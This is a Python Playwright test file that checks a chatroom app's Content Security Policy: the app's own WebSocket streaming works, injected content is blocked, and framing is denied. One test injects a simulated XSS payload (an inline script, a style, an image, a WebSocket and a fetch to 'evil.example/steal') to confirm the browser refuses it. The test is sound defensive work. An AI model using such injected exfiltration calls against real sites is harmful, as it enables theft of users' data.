"""The Content Security Policy in Chromium: the chatroom works under it, and it blocks what it should."""

from __future__ import annotations

from playwright.sync_api import BrowserContext, Page, Request, WebSocket

from .conftest import sign_up
from .test_chatroom import ask, expect_finished

RECORD_VIOLATIONS = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__cspViolations.push(event.violatedDirective);
});
"""


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.__cspViolations")
    return found


def test_a_whole_run_streams_over_the_socket_without_a_single_violation(
    page: Page, context: BrowserContext, app: str
) -> None:
    context.add_init_script(RECORD_VIOLATIONS)
    sockets: list[WebSocket] = []
    frames: list[str] = []

    def on_socket(socket: WebSocket) -> None:
        sockets.append(socket)
        socket.on("framereceived", lambda payload: frames.append(str(payload)))

    page.on("websocket", on_socket)
    sign_up(page, app)
    response = page.reload()
    assert response is not None and "script-src 'self' 'nonce-" in response.headers["content-security-policy"]

    ask(page)
    expect_finished(page)

    # connect-src 'self' let the run's socket through (ws: to this host), and it carried the run.
    host = app.removeprefix("http://")
    # (The page also opens its conversation's socket, for turns sent from another tab.)
    assert any(socket.url.startswith(f"ws://{host}/ws/runs/") for socket in sockets)
    assert len(frames) > 3
    assert violations(page) == []


def test_the_browser_refuses_what_the_policy_forbids(page: Page, context: BrowserContext, app: str) -> None:
    context.add_init_script(RECORD_VIOLATIONS)
    requests: list[Request] = []
    context.on("request", lambda request: requests.append(request))
    sign_up(page, app)

    # As if something had slipped past the sanitiser: an inline script, an inline style, an
    # image, a socket and a fetch to another origin.
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.__pwned = 1";
          document.body.append(script);
          const style = document.createElement("style");
          style.textContent = "body { background: red }";
          document.head.append(style);
          const img = document.createElement("img");
          img.src = "https://evil.example/pixel.png";
          document.body.append(img);
          try { new WebSocket("wss://evil.example/socket"); } catch (error) {}
          fetch("https://evil.example/steal").catch(() => {});
        }"""
    )
    page.wait_for_function("window.__cspViolations.length >= 5")

    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
    assert sorted(set(violations(page))) == ["connect-src", "img-src", "script-src-elem", "style-src-elem"]
    # Chromium reports the blocked image as a request, failed before it reached the network.
    elsewhere = [request for request in requests if "evil.example" in request.url]
    assert all(request.failure == "csp" for request in elsewhere), [
        (request.url, request.failure) for request in elsewhere
    ]


def test_a_page_of_the_app_cannot_be_framed(page: Page, app: str) -> None:
    response = page.goto(f"{app}/accounts/login/")
    assert response is not None
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    assert response.headers["x-frame-options"] == "DENY"
